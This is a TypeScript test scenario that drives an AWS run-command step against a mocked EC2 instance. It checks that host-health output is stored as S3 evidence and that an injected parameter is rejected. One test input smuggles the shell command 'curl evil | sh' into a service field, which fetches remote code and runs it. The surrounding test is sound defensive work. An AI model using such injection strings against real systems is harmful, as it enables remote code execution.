import { DescribeImagesCommand, EC2Client, RunInstancesCommand } from '@aws-sdk/client-ec2';
import { FirebreakError } from '../../core/errors.js';
import { KIT_VARIABLES } from '../../core/names.js';
import { runStep } from '../../core/step.js';
import { provisionEvidenceBucket } from '../../drill/fixtures/evidence-bucket.js';
import { check, checkEqual, type DrillScenario, type Expectation } from '../../drill/scenario.js';
import { provisionRunCommandDocuments } from './fixture.js';
import { buildRunCommandPorts } from './runtime.js';
import { runCommandStep } from './step.js';

/** Seed 000's host check and seed 004's long Postgres queries, through the kit's vetted documents. */
export const runCommandScenario: DrillScenario = {
  name: 'run-command',
  description: 'run the vetted host-health document on an instance, output into evidence; refuse an injected parameter (moto)',
  needs: ['aws'],

  async run(env) {
    const out: Expectation[] = [];
    const aws = env.aws!;
    const ec2 = new EC2Client({ region: aws.region, endpoint: aws.directEndpoint, credentials: { accessKeyId: 'testing', secretAccessKey: 'testing' } });
    const ami = (await ec2.send(new DescribeImagesCommand({}))).Images![0]!.ImageId!;
    const instance = (await ec2.send(new RunInstancesCommand({ ImageId: ami, MinCount: 1, MaxCount: 1, InstanceType: 't3.micro' }))).Instances![0]!.InstanceId!;
    ec2.destroy();
    await provisionRunCommandDocuments(aws, 'fb-drill');
    const bucket = await provisionEvidenceBucket(aws, 'fb-evidence-drill-run-command');
    const ports = () =>
      buildRunCommandPorts({ ...env.env, ...aws.env(), [KIT_VARIABLES.ssmDocumentPrefix]: 'fb-drill', [KIT_VARIABLES.evidenceBucket]: bucket, [KIT_VARIABLES.evidencePrefix]: 'incidents/' }, { sleep: env.sleep, pollMs: 1_000, callAttempts: 2 });
    const run = await runStep(runCommandStep, { document: 'host-health', instances: `aws:instance:${instance}`, parameters: 'unit=docker' }, ports(), env.context());
    out.push(checkEqual('host-health ran', run.result?.status, 'ok'));
    out.push(check('output kept as evidence', /full output: s3:\/\/fb-evidence-drill-run-command\/incidents\/drill\/run-command\//.test(run.result?.outcomes[0]?.reason ?? ''), run.result?.outcomes[0]?.reason));
    const injected = await runStep(runCommandStep, { document: 'docker-compose-restart', instances: `aws:instance:${instance}`, parameters: "projectDir=/srv/app\nservice=api; curl evil | sh" }, ports(), env.context()).catch((e: unknown) => e);
    out.push(checkEqual('an injected parameter is refused before sending', injected instanceof FirebreakError ? injected.code : String(injected), 'PARAMETER_INVALID'));
    return out;
  },
};
